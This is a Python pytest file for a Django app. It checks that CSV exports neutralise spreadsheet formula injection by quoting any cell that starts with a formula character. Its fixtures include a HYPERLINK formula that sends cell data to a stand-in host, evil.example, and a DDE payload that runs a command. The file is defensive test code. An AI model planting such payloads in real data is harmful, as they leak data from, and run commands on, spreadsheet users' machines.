"""CSV exports never hand a spreadsheet a formula: text cells starting with =, +, -, @, tab or CR are quoted
with a leading apostrophe; numbers (including negative ones) stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from apps.core.csv_export import csv_writer, safe_cell
from tests.alerts.builders import ago, ingest_and_rate

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE_USER = "=cmd|' /C calc'!A0"


@pytest.fixture
def hostile(shop, users, django_capture_on_commit_callbacks):
    customer = shop.customer("acme", credits="5000", manager=users["am"])
    customer.name = HOSTILE_NAME
    customer.save()
    events = [
        shop.event(
            customer, shop.tokens, 9_000, ago(days=d, hours=2), user=HOSTILE_USER, agent="+1+cmd", team="@SUM(1)"
        )
        for d in range(3)
    ]
    ingest_and_rate(events, django_capture_on_commit_callbacks)
    return customer


def _cells(response) -> list[str]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]


def _assert_no_formula(cells):
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            float(cell)  # only a plain number may start with a sign


def test_customer_name_is_neutralised_in_top_customers_csv(clients, hostile):
    cells = _cells(clients["owner"].get(reverse("dashboards:overview-csv", args=["top-customers"]), {"range": "30"}))
    assert "'" + HOSTILE_NAME in cells
    _assert_no_formula(cells)


@pytest.mark.parametrize(
    "chart,value",
    [("attribution-user", HOSTILE_USER), ("attribution-agent", "+1+cmd"), ("attribution-team", "@SUM(1)")],
)
def test_event_attributes_are_neutralised_in_customer_csv(clients, hostile, chart, value):
    cells = _cells(clients["owner"].get(reverse("dashboards:customer-csv", args=["acme", chart]), {"range": "30"}))
    assert "'" + value in cells
    _assert_no_formula(cells)


def test_every_export_in_the_dashboards_is_clean(clients, hostile):
    urls = [reverse("dashboards:overview-csv", args=[c]) for c in ("consumption", "money", "margin", "top-growth")]
    urls += [reverse("dashboards:margin-csv"), "/usage/customers/acme/statement.csv"]
    for url in urls:
        _assert_no_formula(_cells(clients["owner"].get(url, {"range": "30"})))


def test_the_writer_keeps_numbers_and_quotes_formulas():
    out = io.StringIO()
    csv_writer(out).writerow(
        [Decimal("-1.50"), -3, "-12.5", "+4", "1e3", "=1+1", "-1+1", "@x", "\tx", "\rx", "plain", "", None]
    )
    assert next(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [
        "-1.50",
        "-3",
        "-12.5",
        "+4",
        "1e3",
        "'=1+1",
        "'-1+1",
        "'@x",
        "'\tx",
        "'\rx",
        "plain",
        "",
        "",
    ]
    assert safe_cell(Decimal("-2")) == Decimal("-2")
